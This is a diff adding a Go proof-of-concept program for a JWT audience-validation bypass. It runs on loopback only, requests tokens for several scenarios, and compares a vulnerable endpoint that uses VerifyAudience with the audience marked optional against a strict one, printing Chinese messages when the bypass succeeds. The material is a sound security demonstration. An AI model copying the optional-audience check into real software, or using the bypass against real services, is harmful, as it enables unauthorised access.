@@ -0,0 +1,141 @@
+package main
+
+import (
+	"crypto/rand"
+	"encoding/json"
+	"flag"
+	"fmt"
+	"log"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"strings"
+	"time"
+)
+
+func main() {
+	addr := flag.String("addr", "127.0.0.1:8080", "loopback address to listen on")
+	secret := flag.String("secret", "", "HS256 secret, a random one is generated if empty")
+	demo := flag.Bool("demo", false, "run the four scenarios against an in-process server and exit")
+	flag.Parse()
+
+	key := []byte(*secret)
+	if len(key) == 0 {
+		key = make([]byte, 32)
+		if _, err := rand.Read(key); err != nil {
+			log.Fatalf("failed to generate secret: %v", err)
+		}
+	}
+
+	srv := newPocServer(key)
+
+	if *demo {
+		if !runDemo(srv) {
+			os.Exit(1)
+		}
+		return
+	}
+
+	if err := checkLoopback(*addr); err != nil {
+		log.Fatal(err)
+	}
+	log.Printf("JWT audience bypass POC listening on http://%s", *addr)
+	httpServer := &http.Server{
+		Addr:         *addr,
+		Handler:      srv.Handler(),
+		ReadTimeout:  10 * time.Second,
+		WriteTimeout: 10 * time.Second,
+	}
+	log.Fatal(httpServer.ListenAndServe())
+}
+
+// runDemo prints the outcome of every scenario on both endpoints and reports whether all
+// outcomes matched the expectations
+func runDemo(srv *pocServer) bool {
+	ts := httptest.NewServer(srv.Handler())
+	defer ts.Close()
+
+	fmt.Println("=== JWT Audience 验证绕过 POC ===")
+	fmt.Printf("服务端验证: claims.VerifyAudience(%q, false)\n\n", expectedAudience)
+
+	ok := true
+	for _, sc := range scenarios {
+		fmt.Println(strings.Repeat("-", 70))
+		fmt.Println(sc.Description)
+
+		token, err := fetchToken(ts.URL, sc.Name)
+		if err != nil {
+			fmt.Printf("❌ 获取 token 失败: %v\n", err)
+			ok = false
+			continue
+		}
+		fmt.Printf("Token: %s\n", token)
+
+		for _, endpoint := range []struct {
+			path   string
+			expect bool
+		}{
+			{"/api/protected", sc.VulnerableAllows},
+			{"/api/protected-strict", sc.StrictAllows},
+		} {
+			result, status, err := callProtected(ts.URL+endpoint.path, token)
+			if err != nil {
+				fmt.Printf("❌ 请求 %s 失败: %v\n", endpoint.path, err)
+				ok = false
+				continue
+			}
+
+			verdict := "拦截"
+			if result.Authorized {
+				verdict = "授权成功，用户: " + result.Subject
+			}
+			fmt.Printf("  %-24s %d %s\n", endpoint.path, status, verdict)
+			if result.Bypass {
+				fmt.Println("  🔥🔥🔥 严重安全漏洞：攻击成功！绕过验证！🔥🔥🔥")
+			}
+			if result.Authorized != endpoint.expect {
+				fmt.Printf("  ❌ 与预期不符，预期授权=%v\n", endpoint.expect)
+				ok = false
+			}
+		}
+	}
+	fmt.Println(strings.Repeat("-", 70))
+
+	return ok
+}
+
+func fetchToken(baseURL string, name string) (string, error) {
+	resp, err := http.Get(baseURL + "/token?scenario=" + name)
+	if err != nil {
+		return "", err
+	}
+	defer resp.Body.Close()
+
+	var body map[string]string
+	if err := json.NewDecoder(resp.Body).Decode(&body); err != nil {
+		return "", err
+	}
+	if resp.StatusCode != http.StatusOK {
+		return "", fmt.Errorf("status %d: %s", resp.StatusCode, body["error"])
+	}
+	return body["token"], nil
+}
+
+func callProtected(url string, token string) (authResult, int, error) {
+	var result authResult
+
+	req, err := http.NewRequest(http.MethodGet, url, nil)
+	if err != nil {
+		return result, 0, err
+	}
+	req.Header.Set("Authorization", "Bearer "+token)
+
+	resp, err := http.DefaultClient.Do(req)
+	if err != nil {
+		return result, 0, err
+	}
+	defer resp.Body.Close()
+
+	err = json.NewDecoder(resp.Body).Decode(&result)
+	return result, resp.StatusCode, err
+}